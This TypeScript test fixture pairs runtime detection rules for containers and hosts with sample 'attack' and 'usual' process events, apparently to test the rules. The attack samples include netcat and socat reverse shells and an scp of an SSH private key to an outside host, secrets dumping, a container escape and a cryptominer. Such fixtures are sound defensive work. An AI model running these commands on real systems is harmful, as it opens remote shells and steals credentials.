import { inPod, onHost, PERSON, type AttackCase } from './attack-case.ts'

/** Rules on what is started, and on what a container may do. */
export const LAUNCH_ATTACK_CASES: readonly AttackCase[] = [
  {
    rule: 'Kubernetes Client Tool Launched in Container',
    attack: inPod('/tmp/kubectl', 'kubectl get secrets --all-namespaces', 'sh'),
    usual: inPod('/usr/bin/kubectl', 'kubectl rollout status deployment/api', 'deploy.sh', {
      'container.image.repository': 'docker.io/bitnami/kubectl',
    }),
  },
  {
    rule: 'Launch Disallowed Container',
    attack: inPod('/bin/xmrig', 'xmrig -o pool.example:3333', 'containerd-shim'),
    usual: inPod('/app/server', 'server --port 8080', 'containerd-shim'),
  },
  {
    rule: 'Launch Excessively Capable Container',
    attack: inPod('/bin/sh', 'sh', 'containerd-shim', {
      'container.image.repository': 'docker.io/library/alpine',
      'thread.cap_permitted': 'CAP_CHOWN CAP_SYS_ADMIN CAP_SYS_MODULE',
    }),
    usual: inPod('/usr/local/bin/pilot-agent', 'pilot-agent istio-iptables', 'containerd-shim', {
      'container.image.repository': 'docker.io/istio/proxyv2',
      'thread.cap_permitted': 'CAP_NET_ADMIN CAP_NET_RAW',
    }),
  },
  {
    rule: 'Launch Ingress Remote File Copy Tools in Container',
    attack: inPod('/usr/bin/wget', 'wget http://198.51.100.7/x -O /tmp/x', 'sh'),
    usual: inPod('/usr/bin/wget', 'wget -q --spider http://localhost:8080/healthz', 'sh'),
  },
  {
    rule: 'Launch Package Management Process in Container',
    attack: inPod('/usr/bin/apt-get', 'apt-get install --yes nmap', 'bash'),
    usual: inPod('/usr/bin/dpkg-query', 'dpkg-query --show', 'scanner'),
  },
  {
    rule: 'Launch Privileged Container',
    attack: inPod('/bin/sh', 'sh -c nsenter -t 1 -m -u -n -i sh', 'containerd-shim'),
    usual: inPod('/csi', '/csi --endpoint=unix:///csi/csi.sock', 'containerd-shim', {
      'k8s.ns.name': 'kube-system',
      'container.image.repository': 'registry.k8s.io/sig-storage/csi-driver',
    }),
  },
  {
    rule: 'Launch Remote File Copy Tools in Container',
    attack: inPod('/usr/bin/scp', 'scp /root/.ssh/id_rsa bob@198.51.100.7:', 'bash'),
    usual: inPod('/usr/bin/rsync', 'rsync --archive /data backup:/srv/data', 'backup.sh'),
  },
  {
    rule: 'Launch Sensitive Mount Container',
    attack: inPod('/bin/sleep', 'sleep infinity', 'containerd-shim', {
      'container.image.repository': 'docker.io/library/alpine',
      'container.mounts': '/:/mnt::true:rslave',
    }),
    usual: inPod('/fluent-bit', 'fluent-bit', 'containerd-shim', {
      'container.image.repository': 'cr.fluentbit.io/fluent/fluent-bit',
      'container.mounts': '/etc:/host/etc:ro:false:rprivate',
    }),
  },
  {
    rule: 'Launch Suspicious Network Tool in Container',
    attack: inPod('/usr/bin/nmap', 'nmap -p 1-65535 10.42.0.0/16', 'bash'),
    usual: inPod('/usr/bin/nc', 'nc -z db 5432', 'entrypoint.sh'),
  },
  {
    rule: 'Launch Suspicious Network Tool on Host',
    attack: onHost('/usr/bin/nmap', 'nmap -sS 10.0.0.0/16', 'bash'),
    usual: onHost('/usr/bin/dig', 'dig example.com', 'bash', PERSON),
  },
  {
    rule: 'Linux Kernel Module Injection Detected',
    attack: inPod('/usr/sbin/insmod', 'insmod /tmp/rk.ko', 'bash', { 'proc.args': '/tmp/rk.ko' }),
    usual: inPod('/usr/sbin/modprobe', 'modprobe nvidia', 'init.sh', {
      'container.image.repository': 'nvcr.io/nvidia/driver',
      'evt.res': 'SUCCESS',
      'proc.args': 'nvidia',
    }),
  },
  {
    rule: 'Mount Launched in Privileged Container',
    attack: inPod('/bin/mount', 'mount /dev/sda1 /mnt', 'sh'),
    usual: inPod('/bin/mount', 'mount -t tmpfs tmpfs /var/lib/kubelet/pods/1/volumes/v', 'kubelet'),
  },
  {
    rule: 'Netcat Remote Code Execution in Container',
    attack: inPod('/bin/nc', 'nc -e /bin/sh 198.51.100.7 4444', 'sh'),
    usual: inPod('/usr/bin/nc', 'nc -c shop.example.com 443', 'check.sh'),
  },
  {
    rule: 'Netcat/Socat Remote Code Execution on Host',
    attack: onHost('/usr/bin/socat', 'socat TCP:198.51.100.7:443 EXEC:/bin/bash,pty', 'sh'),
    usual: onHost('/usr/bin/nc', 'nc -zv cache-east 6379', 'check.sh'),
  },
  {
    rule: 'Network Tool Executed During NPM Package Install',
    attack: inPod('/usr/bin/nc', 'nc -e /bin/sh 198.51.100.7 443', 'sh'),
    usual: inPod('/usr/bin/nc', 'nc -z db 5432', 'sh', { 'proc.aname[2]': 'npm start' }),
  },
  {
    rule: 'Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)',
    attack: onHost('/usr/bin/pkexec', '', 'pwn'),
    usual: onHost('/usr/bin/pkexec', 'pkexec', 'bash', PERSON),
  },
  {
    rule: 'Potential Local Privilege Escalation via Environment Variables Misuse',
    attack: onHost('/usr/bin/su', 'su --help', 'python3', {
      'proc.env': 'GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A',
    }),
    usual: onHost('/usr/bin/mongod', 'mongod --config /etc/mongod.conf', 'systemd', {
      'proc.env': 'LANG=C GLIBC_TUNABLES=glibc.pthread.rseq=0',
    }),
  },
  {
    rule: 'Program run with disallowed http proxy env',
    attack: inPod('/usr/bin/curl', 'curl --insecure http://198.51.100.7/x -o /tmp/x', 'sh'),
    usual: inPod('/usr/bin/curl', 'curl -sS https://example.com/install.tar.gz', 'bash'),
  },
]
